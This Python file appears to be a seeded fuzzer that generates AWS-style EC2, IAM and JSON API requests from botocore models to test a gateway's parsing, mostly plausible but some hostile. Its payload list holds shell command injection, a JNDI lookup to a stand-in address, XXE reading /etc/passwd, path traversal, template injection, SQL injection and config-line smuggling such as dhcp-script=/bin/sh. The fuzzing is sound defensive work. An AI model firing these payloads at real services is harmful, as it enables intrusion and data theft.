"""Requests made from a service's model: mostly what could be meant, with something hostile in it.

Everything follows from the seed, so a run can be had again. A request is a tree of Python values first (as boto3 takes
them, wrong ones included) and then the bytes of its protocol: a form for EC2 and IAM, JSON for the others. Neither uses
what the gateway parses with.
"""

from __future__ import annotations

import base64
import json
import random
import re
from collections.abc import Collection, Sequence
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, quote_from_bytes

from botocore.model import ListShape, MapShape, OperationModel, Shape, StructureShape

MAX_BODY_BYTES = 2 << 20  # as the server takes them

# What has broken something somewhere: markup, templates, shells, formats, paths, options, lines, and what is no text.
TEXTS: tuple[str, ...] = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x01\x02\x1b[31m\x7f\x85",
    "\ufeff\ufffe\uffff",
    "\u202egnirts\u2028\u2029",
    "\u210c\U0001d522 \U00010348 \xe9 e\u0301 \ufdfd",
    "\u0130\u0131\u017f\u212a",
    "\u0661\u0662\u0663",
    "²",
    "a\nb",
    "a\r\nb: c\r\n\r\n<html>",
    "x\nserver=/#/192.0.2.66\ndhcp-script=/bin/sh",
    "example.com\ndhcp-option=6,192.0.2.66",
    "fe80::1%eth0",
    "2001:db8::1%x\nserver=192.0.2.66",
    "2001:db8::%a b/64",
    "<script>alert(1)</script>",
    "'/><disk type='block'><source dev='/dev/sda'/></disk><x y='",
    "]]><!--",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&amp;&#0;&#x1F;",
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${jndi:ldap://192.0.2.66/a}",
    "%s%n%d%(x)s",
    "{0.__class__}{x!r}{",
    "$(touch /tmp/fuzzed)`id`;|&&\n>/tmp/fuzzed",
    "'; DROP TABLE resource; --",
    '"\\',
    "-o",
    "--help",
    "-",
    "/",
    "..",
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "file:///%2e%2e/etc/passwd",
    "s3://bucket/../../key",
    "s3://",
    "http://[::1",
    "//[",
    "json:{}",
    "*",
    "?",
    "[",
    "(((((a+)+)+)+)+)$",
    "\\",
    "*" * 60 + "b",
    "a" * 63,
    "a" * 64,
    "a" * 129,
    "a" * 256,
    "a" * 300,
    "é" * 128,
    "." * 40,
    "0",
    "-1",
    "1e309",
    "NaN",
    "Infinity",
    "null",
    "None",
    "true",
    "0x10",
    "1_000",
    "\u0663",
    "9" * 30,
    "9" * 5000,
    "0.0.0.0/0",
    "::/0",
    "::ffff:10.0.0.1",
    "10.0.0.0/33",
    "10.0.0.1/24",
    "010.0.0.1",
    "10.0.0",
    "255.255.255.255",
    "1" * 400 + ".0.0.0/8",
    "2026-01-02T03:04:05Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "2026-13-45T99:99:99Z",
    "2026-W01-1",
    "Fri, 31 Dec 9999 23:59:59 -1400",
    "Thu, 01 Jan 1970 00:00:00 +9999999",
    "999999999999",
    "arn:aws:iam::111122223333:role/x",
    "arn:aws:iam::*:*",
    "arn:aws:kms:us-east-1:111122223333:key/",
    "arn:::::",
    "alias/",
    "alias/aws/ebs",
    "ami-",
    "i-",
    "i-0123456789abcdef0",
    "i-01234567\n",
    "resolve:ssm:/aws/x",
    "=",
    "==",
    "W10=",
    base64.b64encode(b"[" * 20_000).decode(),  # JSON that is nested deeply, as a page's token could be
    base64.b64encode(b'{"a":' * 20_000).decode(),
    base64.b64encode(b'["DescribeInstances", 1, null, {}]').decode(),
    base64.b64encode(b"\xff\xfe").decode(),
    base64.b64encode(bytes(20_000)).decode(),
    '{"Version":"2012-10-17","Statement":[]}',
    '{"Version":"2012-10-17","Statement":' + "[" * 3000 + "]" * 3000 + "}",
    '{"Statement":[{"Effect":"Allow","Action":"' + "*" * 500 + 'x","Resource":"' + "*?" * 300 + '"}]}',
)
LONG_TEXTS: tuple[str, ...] = ("x" * 70_000, "<" * 70_000, "é" * 40_000, "\n" * 70_000, "ab " * 50_000)
# No UTF-16 surrogate is text on its own; JSON can say one all the same, and Python's strings can hold it.
SURROGATES: tuple[str, ...] = ("\ud800", "a\udfffb", "\udc80" * 5)
NUMBERS: tuple[Any, ...] = (
    -1,
    0,
    1,
    2,
    5,
    255,
    256,
    1000,
    4094,
    65535,
    65536,
    16384,
    65537,
    2**31 - 1,
    2**31,
    -(2**31),
    2**32,
    2**53 + 1,
    2**63 - 1,
    -(2**63),
    2**63,
    2**64,
    10**40,
    -(10**400),
    0.5,
    -0.0,
    1e308,
    5e-324,
)
PLAUSIBLE_TEXTS: tuple[str, ...] = ("web", "my-name", "a b", "x.example.com", "default", "description of it")
CIDRS: tuple[str, ...] = (
    "10.0.0.0/16",
    "10.0.1.0/24",
    "10.0.2.0/28",
    "172.31.0.0/16",
    "192.168.0.0/16",
    "0.0.0.0/0",
    "100.64.0.0/16",
    "2001:db8:ec00::/56",
    "2001:db8:ec00:1::/64",
    "::/0",
)
ADDRESSES: tuple[str, ...] = ("10.0.1.10", "10.0.1.11", "172.31.0.9", "192.0.2.1", "2001:db8:ec00::5")
# An address by Python's reckoning, or nearly one.
ODD_ADDRESSES: tuple[str, ...] = (
    "fe80::1%x\nserver=192.0.2.66",
    "2001:db8:ec00::5%a\nb",
    "2001:db8:ec00::a%',x",
    "2001:db8::%x y/64",
    "::ffff:10.0.1.10",
    "::10.0.1.10",
    "10.0.1.0/255.255.255.0",
    "10.0.1.16/0.0.0.15",
    "10.0.1.10/24",
    "167772426",
    "0x0a00010a",
    "10.0.1.10 ",
    "10.0.1.010",
    "2001:0DB8:EC00:0000:0000:0000:0000:0005",
    "2001:db8:ec00::5/128",
)
TIMES: tuple[str, ...] = ("2026-11-02T03:04:05Z", "2027-01-01T00:00:00Z", "2030-01-01T00:00:00Z")


def _policy(**statement: Any) -> str:
    condition = {"StringLike": {"aws:ResourceTag/x": ["${aws:username}", "*"]}}
    written = {"Sid": "A", "Effect": "Allow", **statement, "Condition": condition}
    return json.dumps({"Version": "2012-10-17", "Statement": [written]})


POLICY = _policy(Action=["ec2:*", "sts:AssumeRole"], Resource="*")
TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}],
    }
)
KEY_POLICY = _policy(Principal={"AWS": "*"}, Action="kms:*", Resource="*")
PUBLIC_KEY = base64.b64encode(
    b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0dB0dB0dB0dB0dB0dB0dB0dB0dB0dB0dB0dB0dB0dB0 x"
).decode()
ZONES = ("us-east-1a", "us-east-1b", "us-east-1c", "us-west-2a")
ID = re.compile(r"\b([a-z]{1,6}(?:-[a-z]{3,6}){0,2})-0?[0-9a-f]{16}\b")
# A member that ends so takes an id of these kinds.
ID_MEMBERS: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("networkinterfaceid", ("eni",)),
    ("vpcpeeringconnectionid", ("pcx",)),
    ("egressonlyinternetgatewayid", ("eigw",)),
    ("internetgatewayid", ("igw",)),
    ("natgatewayid", ("nat",)),
    ("instanceid", ("i",)),
    ("volumeid", ("vol",)),
    ("snapshotid", ("snap",)),
    ("imageid", ("ami",)),
    ("subnetid", ("subnet",)),
    ("vpcid", ("vpc",)),
    ("vpcendpointid", ("vpce",)),
    ("securitygroupruleid", ("sgr",)),
    ("groupid", ("sg",)),
    ("securitygroup", ("sg",)),
    ("routetableid", ("rtb",)),
    ("networkaclid", ("acl",)),
    ("dhcpoptionsid", ("dopt",)),
    ("allocationid", ("eipalloc",)),
    ("associationid", ("eipassoc", "rtbassoc", "aclassoc", "subnet-cidr-assoc", "vpc-cidr-assoc", "iip-assoc")),
    ("attachmentid", ("eni-attach",)),
    ("prefixlistid", ("pl",)),
    ("flowlogid", ("fl",)),
    ("keypairid", ("key",)),
    ("gatewayid", ("igw", "nat", "i", "eni")),
    ("importtaskid", ("import-ami", "import-snap")),
    ("exportimagetaskid", ("export-ami",)),
    ("exporttaskid", ("export-ami",)),
    ("networkinterfacepermissionid", ("eni-perm",)),
    ("ruleid", ("rule",)),
    ("buildid", ("build",)),
    ("uploadid", ("upload",)),
    ("layerid", ("layer",)),
)
NAMED: dict[str, tuple[Any, ...]] = {
    "instancetype": ("t3.micro", "t3.nano", "m5.large", "c5.9xlarge", "t2.micro"),
    "attribute": ("userData", "instanceType", "description", "launchPermission", "groupSet", "sourceDestCheck"),
    "volumetype": ("gp2", "gp3", "io1", "io2", "st1", "standard"),
    "availabilityzone": ZONES,
    "devicename": ("/dev/sdf", "/dev/xvdba", "sdh", "/dev/sda1", "xvda"),
    "device": ("/dev/sdf", "/dev/sdg", "/dev/sdh"),
    "ipprotocol": ("tcp", "udp", "icmp", "-1", "icmpv6", "47"),
    "protocol": ("tcp", "udp", "icmp", "-1", "6"),
    "publickeymaterial": (PUBLIC_KEY,),
    "keyname": ("hostile", "MyKeyPair"),
    "policydocument": (POLICY, TRUST),
    "policy": (KEY_POLICY, POLICY),
    "assumerolepolicydocument": (TRUST,),
    "policyarn": ("arn:aws:iam::aws:policy/AdministratorAccess", "arn:aws:iam::111122223333:policy/web"),
    "rolearn": ("arn:aws:iam::111122223333:role/web",),
    "username": ("web", "web", "web", "fuzzed"),
    "rolename": ("web",),
    "groupname": ("web", "default"),
    "policyname": ("web",),
    "instanceprofilename": ("web",),
    "rolesessionname": ("web",),
    "sourceregion": ("us-east-1", "us-west-2"),
    "ownerid": ("self", "111122223333", "amazon"),
    "userid": ("111122223333", "444455556666"),
    "domain": ("vpc", "standard"),
    "targettype": ("*", "-1", "1", "8"),
    "userdata": (base64.b64encode(b"#!/bin/sh\n").decode(),),
    "resourcetype": ("instance", "volume", "vpc", "subnet", "snapshot", "image", "security-group", "network-interface"),
    "keyid": ("alias/fuzz", "alias/aws/ebs"),
    "aliasname": ("alias/fuzz", "alias/web"),
    "url": ("file:///disk.raw", "file:///../../etc/passwd", "upload-0123456789abcdef0"),
    "format": ("raw", "qcow2", "vmdk", "vhd", "ova"),
    "diskimageformat": ("RAW", "VMDK", "VHD"),
    "s3bucket": ("bucket",),
    "s3prefix": ("exports/", "a/../../b/", "-x"),
    "recipename": ("tiny", "debian-12"),
    "size": (1, 8, 10, 100),
    "volumesize": (1, 8, 10),
    "fromport": (0, 22, 80, -1),
    "toport": (22, 80, 65535, -1),
    "rulenumber": (1, 100, 32766),
    "mincount": (1,),
    "maxcount": (1, 2),
    "maxresults": (5, 100, 1000),
    "addressfamily": ("IPv4", "IPv6"),
    "permissionsboundary": ("arn:aws:iam::aws:policy/AdministratorAccess",),
    "versionid": ("v1",),
    "granteeprincipal": ("arn:aws:iam::111122223333:root",),
    "trafficdirection": ("ingress", "egress"),
    "ipv6address": ("2001:db8:ec00::5",),
}
_DHCP = ("domain-name", "domain-name-servers", "ntp-servers", "netbios-name-servers", "netbios-node-type")
_FILTERS = ("tag:Name", "tag-key", "vpc-id", "state", "instance-id", "owner-id", "availability-zone", "group-id", "*")


@dataclass(frozen=True, slots=True)
class Made:
    """One request: who it is for, and its body."""

    service: str
    action: str
    body: bytes
    target: str  # X-Amz-Target; empty for a form
    hostile: bool


class Generator:
    def __init__(self, seed: int, pool: Sequence[str] = ()) -> None:
        self.chance = random.Random(seed)
        self.pool: dict[str, list[str]] = {}
        self.named = dict(NAMED)
        self._taken: Collection[str] = ()
        self.learn(" ".join(pool))

    def learn(self, text: str) -> None:
        """Take the ids that are in an answer; of each kind the latest are kept."""
        for found in ID.finditer(text):
            known = self.pool.setdefault(found[1], [])
            if found[0] not in known:
                known.append(found[0])
                del known[:-40]

    def unlearn(self, text: str) -> None:
        """Drop the ids that an answer says are not there, but not all: they are good for that answer."""
        for found in ID.finditer(text):
            known = self.pool.get(found[1], [])
            if found[0] in known and len(known) > 2:
                known.remove(found[0])

    # --- values ---

    def forget(self) -> None:
        """The ids of a world that is over, but for a few: they are somebody else's now."""
        for known in self.pool.values():
            del known[:-2]

    def request(self, operation: OperationModel, *, hostility: float, taken: Collection[str] = ()) -> Made:
        """`taken`: the members that the operation is known to take; others are given seldom."""
        chance = self.chance
        shape = operation.input_shape
        self._taken = taken if chance.random() < 0.95 else ()
        value: Any = self._structure(shape, 0, top=True) if shape is not None else {}
        hostile = chance.random() < hostility
        if hostile:
            for _ in range(chance.choice((1, 1, 1, 2, 3, 12))):
                value = self._spoil(value, surrogates=operation.service_model.metadata["protocol"] == "json")
        service = operation.service_model.service_name
        if operation.service_model.metadata["protocol"] == "json":
            return Made(service, operation.name, self._json(value, hostile), _target(operation), hostile)
        return Made(service, operation.name, self._form(operation, value, hostile), "", hostile)

    def _structure(self, shape: StructureShape, depth: int, *, top: bool = False) -> Any:
        chance = self.chance
        if depth > 6:
            return {}
        # Many operations want one of several members, and refuse two of them: few are given, mostly.
        share = chance.choice((0.0, 0.1, 0.25, 0.9) if top else (0.3, 0.6, 0.95))
        members = {}
        for name, member in shape.members.items():
            if name in ("DryRun", "NextToken", "Marker") and chance.random() < 0.95:
                continue
            if top and self._taken and name not in self._taken:
                continue
            wanted = name in shape.required_members or chance.random() < share
            # EC2 seldom says what it requires: an id is what most of it is about.
            likely = top and chance.random() < 0.8 and (name.endswith(("Id", "Ids")) or name in ("Resources",))
            if wanted or likely:
                members[name] = self._value(member, name, depth + 1)
        return members

    def _value(self, shape: Shape, name: str, depth: int) -> Any:
        chance = self.chance
        if isinstance(shape, StructureShape):
            return self._structure(shape, depth)
        if isinstance(shape, ListShape):
            length = chance.choice((0, 1, 1, 1, 2, 3))
            singular = name[:-3] + "y" if name.endswith("ies") else name.removesuffix("s")
            return [self._value(shape.member, singular, depth + 1) for _ in range(length)]
        if isinstance(shape, MapShape):
            return {
                str(self._value(shape.key, name, depth + 1)): self._value(shape.value, name, depth + 1)
                for _ in range(chance.choice((0, 1, 2)))
            }
        return self._scalar(shape, name)

    def _scalar(self, shape: Shape, name: str) -> Any:
        chance = self.chance
        if values := getattr(shape, "enum", None):
            return chance.choice(values)
        known = self.named.get(name.lower())
        if known is not None and chance.random() < 0.9:
            return chance.choice(known)
        match shape.type_name:
            case "boolean":
                return chance.random() < 0.5
            case "integer" | "long":
                number = chance.choice((1, 1, 1, 2, 5, 8, 100, 443))
                return max(number, int(shape.metadata.get("min", number)))
            case "float" | "double":
                return chance.choice((0.5, 1.0, 100.0))
            case "timestamp":
                return chance.choice(TIMES)
            case "blob":
                return base64.b64encode(chance.randbytes(chance.choice((1, 16, 32, 200)))).decode()
        text = self._text(name)
        return text if len(text) >= int(shape.metadata.get("min", 0)) else text.ljust(int(shape.metadata["min"]), "x")

    def _text(self, name: str) -> str:
        chance = self.chance
        lower = name.lower()
        for ending, prefixes in ID_MEMBERS:
            if lower.endswith(ending):
                return self._id(prefixes)
        if lower in ("resource", "resourceid", "id"):
            return self._id(tuple(self.pool))
        if "availabilityzone" in lower:
            return chance.choice(ZONES)
        odd = chance.random() < 0.08
        if "cidr" in lower or lower.endswith("prefix"):
            return chance.choice(ODD_ADDRESSES if odd else CIDRS)
        if "address" in lower or lower in ("publicip", "source", "destination"):
            return chance.choice(ODD_ADDRESSES if odd else ADDRESSES)
        if lower in ("key", "name"):
            return chance.choice((*_DHCP, *_FILTERS, "Name", "x"))
        if lower == "value" and self.pool:
            return chance.choice(
                (*(ODD_ADDRESSES if odd else ()), *PLAUSIBLE_TEXTS, *ADDRESSES, self._id(tuple(self.pool)))
            )
        return chance.choice(PLAUSIBLE_TEXTS)

    def _id(self, prefixes: Sequence[str]) -> str:
        known = [each for prefix in prefixes for each in self.pool.get(prefix, ())]
        place = self.chance.random()  # one draw, whatever there is
        return known[int(place * len(known))] if known else f"{prefixes[0] if prefixes else 'i'}-0123456789abcdef0"

    # --- hostility ---

    def _spoil(self, value: Any, *, surrogates: bool) -> Any:
        """`value` with one of its parts, or all of it, made hostile."""
        chance = self.chance
        if isinstance(value, dict) and value and chance.random() < 0.97:
            if chance.random() < 0.03:
                return {**value, self.hostile_text(surrogates): "x"}
            name = chance.choice(list(value))
            return {**value, name: self._spoil(value[name], surrogates=surrogates)}
        if isinstance(value, list) and value and chance.random() < 0.9:
            if chance.random() < 0.06:
                return value * min(chance.choice((50, 500, 3000)), 1 + 1_000_000 // len(_json_text(value)))
            place = chance.randrange(len(value))
            return [*value[:place], self._spoil(value[place], surrogates=surrogates), *value[place + 1 :]]
        return self._hostile(surrogates)

    def _hostile(self, surrogates: bool) -> Any:
        chance = self.chance
        match chance.randrange(12):
            case 0:
                return chance.choice(NUMBERS)
            case 1:
                return chance.choice((None, True, False, [], {}, [[]], [None], {"": None}))
            case 2:
                return [self.hostile_text(surrogates) for _ in range(chance.choice((1, 5, 200)))]
            case 3:
                nest: Any = "x"
                for _ in range(chance.choice((3, 30, 40, 500))):
                    nest = [nest] if chance.random() < 0.5 else {"a": nest}
                return nest
            case 4:
                return {self.hostile_text(surrogates): self.hostile_text(surrogates)}
            case 5:
                return chance.choice(LONG_TEXTS)
            case _:
                return self.hostile_text(surrogates)

    def hostile_text(self, surrogates: bool = False) -> str:
        chance = self.chance
        if surrogates and chance.random() < 0.1:
            return chance.choice(SURROGATES)
        text = chance.choice(TEXTS)
        if chance.random() < 0.1:
            text = f"{chance.choice(PLAUSIBLE_TEXTS + ADDRESSES)}{text}"
        elif chance.random() < 0.1:
            text = f"{self._id(tuple(self.pool))}{text}"
        return text

    # --- bytes ---

    def _json(self, value: Any, hostile: bool) -> bytes:
        chance = self.chance
        body = _json_text(value)[:MAX_BODY_BYTES]
        if hostile and chance.random() < 0.05:
            body = self._garble(body)
        return body

    def _form(self, operation: OperationModel, value: Any, hostile: bool) -> bytes:
        chance = self.chance
        service = operation.service_model
        pairs: list[tuple[str, str]] = []
        if operation.input_shape is not None:
            _flatten(pairs, operation.input_shape, value, "", dotted=service.metadata["protocol"] == "query")
        if hostile and pairs and chance.random() < 0.1:
            place = chance.randrange(len(pairs))
            name, text = pairs[place]
            number = chance.choice(("999999999", "0", "-1", "1e3", "00001", "\u0661", "", "1.1", "9" * 400))
            pairs[place] = chance.choice(
                (
                    (re.sub(r"\.\d+", f".{number}", name), text),
                    (name + "." + number, text),
                    (name + ".1" * 40, text),
                    (self.hostile_text(), text),
                )
            )
        form = [("Action", operation.name), ("Version", service.api_version), *pairs]
        parts: list[bytes] = []
        room = MAX_BODY_BYTES
        for name, text in form:
            parts.append(b"%s=%s" % (_quoted(name), _quoted(text)))
            room -= len(parts[-1]) + 1
            if room < 0:
                break
        body = b"&".join(parts)[:MAX_BODY_BYTES]
        if hostile and chance.random() < 0.05:
            head, mark, rest = body.partition(b"&Version")
            body = head + mark + self._garble(rest)
        return body

    def _garble(self, body: bytes) -> bytes:
        changed = bytearray(body[:100_000])
        for _ in range(self.chance.randint(1, 4)):
            if changed:
                place = self.chance.randrange(len(changed))
                changed[place : place + self.chance.choice((0, 1))] = self.chance.choice(
                    (b"%", b"\xff", b"%00", b"%ED%A0%80", b"&", b"=", b"+", b'"', b"\\ud800", b"{", b"\x00", b",")
                )
        return bytes(changed)


def _json_text(value: Any) -> bytes:
    try:
        return json.dumps(value).encode()
    except RecursionError:
        return b'{"a":' * 5000 + b"1" + b"}" * 5000


def _target(operation: OperationModel) -> str:
    return f"{operation.service_model.metadata['targetPrefix']}.{operation.name}"


def _quoted(text: str) -> bytes:
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="-_.~").encode()


def _flatten(pairs: list[tuple[str, str]], shape: Shape | None, value: Any, path: str, *, dotted: bool) -> None:
    """A tree as the form's pairs; what is not of the shape goes down by its own names and numbers."""
    if len(pairs) > 12_000 or path.count(".") > 60:
        return
    if isinstance(value, dict):
        if isinstance(shape, MapShape):
            for number, (key, child) in enumerate(value.items(), 1):
                entry = f"{path}.{'entry.' if dotted else ''}{number}"
                pairs.append((f"{entry}.{shape.key.serialization.get('name', 'key')}", str(key)))
                name = shape.value.serialization.get("name", "value")
                _flatten(pairs, shape.value, child, f"{entry}.{name}", dotted=dotted)
            return
        for name, child in value.items():
            member = shape.members.get(name) if isinstance(shape, StructureShape) else None
            wire = _wire_name(member, str(name), dotted) if member is not None else str(name)
            _flatten(pairs, member, child, f"{path}.{wire}" if path else wire, dotted=dotted)
        return
    if isinstance(value, list):
        if not value:
            pairs.append((path, ""))
        member = shape.member if isinstance(shape, ListShape) else None
        middle = ".member" if dotted and isinstance(shape, ListShape) else ""
        for number, child in enumerate(value, 1):
            _flatten(pairs, member, child, f"{path}{middle}.{number}", dotted=dotted)
        return
    if value is not None:
        text = str(value).lower() if isinstance(value, bool) else value if isinstance(value, str) else repr(value)
        pairs.append((path, text))


def _wire_name(shape: Shape, name: str, dotted: bool) -> str:
    serialization = shape.serialization
    if dotted:
        return str(serialization.get("name", name))
    if "queryName" in serialization:
        return str(serialization["queryName"])
    wire = str(serialization.get("name", name))
    return wire[:1].upper() + wire[1:]


def as_query(body: bytes) -> str:
    """A form as a query string that HTTP lets through."""
    return quote(body.decode("latin-1"), safe="%&=+-_.~", encoding="latin-1")
